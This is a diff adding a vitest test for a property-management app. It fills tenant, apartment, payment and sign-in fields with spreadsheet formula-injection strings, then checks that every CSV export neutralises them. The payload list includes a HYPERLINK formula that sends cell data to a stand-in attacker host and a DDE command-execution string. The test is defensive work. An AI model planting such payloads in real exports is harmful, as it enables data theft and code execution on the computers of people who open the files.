@@ -1,0 +1,82 @@
+import Papa from 'papaparse';
+import { afterAll, expect, test } from 'vitest';
+import { openTestSite } from '#test/site.ts';
+
+const site = await openTestSite();
+afterAll(site.close);
+const admin = await site.admin();
+
+/** What Excel, LibreOffice, Numbers or Google’s sheets would run, or send to somebody. */
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example/"&A1)',
+  '=cmd|" /C calc"!A0',
+  '+1+cmd',
+  '-2+3',
+  '@SUM(1)',
+  '  =1+1',
+  "'=1+1",
+  '|calc',
+  '%0A=1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  'plain","=1+1',
+  'plain\r\n=1+1',
+];
+
+/** A building in which every text that somebody can enter is a formula. */
+async function hostileBuilding() {
+  for (const [n, formula] of FORMULAS.entries()) {
+    const line = formula.replace(/[\r\n]+/g, ' ').trim();
+    const flat = await site.addApartment({
+      block: line.slice(0, 20).trim(),
+      apartmentNo: `${line.slice(0, 16).trim()} ${n}`,
+    });
+    const { block, apartmentNo } = flat;
+    const tenancy = {
+      block,
+      apartmentNo,
+      tenantName: line,
+      rent: 10_000,
+      startsOn: '2026-01-01',
+      billedFrom: '2026-01',
+    };
+    const { body, status } = await admin.post<{ _id: string }>('/api/residents', tenancy);
+    expect([formula, status]).toEqual([formula, 201]);
+    const money = {
+      agreementId: body._id,
+      amount: 100,
+      method: 'Cash',
+      receivedOn: '2026-03-14',
+      requestKey: `form no ${n}`,
+    };
+    const { body: paid } = await admin.post<{ _id: string }>('/api/payments/record', money);
+    expect((await admin.put(`/api/payments/reverse/${paid._id}`, { reason: formula })).status).toBe(200);
+    expect(
+      (await site.anonymous().post('/api/identity/sign-in', { email: 'x@example.test', password: formula })).status,
+    ).toBe(401);
+  }
+}
+
+const isCsv = (answer: unknown) =>
+  typeof answer === 'object' && answer !== null && 'mediaType' in answer && answer.mediaType === 'text/csv';
+const downloads = site.endpoints.filter(({ answers }) => Object.values(answers).some(isCsv)).map(({ path }) => path);
+
+test('no cell of any download is run by a spreadsheet, none breaks out of its row, and its name is ours', async () => {
+  await hostileBuilding();
+  expect(downloads.length).toBeGreaterThanOrEqual(6);
+  for (const path of downloads) {
+    const { status, body, headers } = await admin.get<string>(path);
+    expect([path, status]).toEqual([path, 200]);
+    expect(headers.get('content-disposition')).toMatch(/^attachment; filename="[a-z0-9-]+\.csv"$/);
+    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    const [titles = [], ...rows] = Papa.parse<string[]>(body.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;
+    expect([path, rows.length >= FORMULAS.length]).toEqual([path, true]);
+    for (const row of rows) {
+      expect([path, row.length]).toEqual([path, titles.length]);
+      const run = row.filter((cell) => /^\s*[=+\-@|%＝＋－＠]/.test(cell) && Number.isNaN(Number(cell)));
+      expect([path, run]).toEqual([path, []]);
+    }
+  }
+});
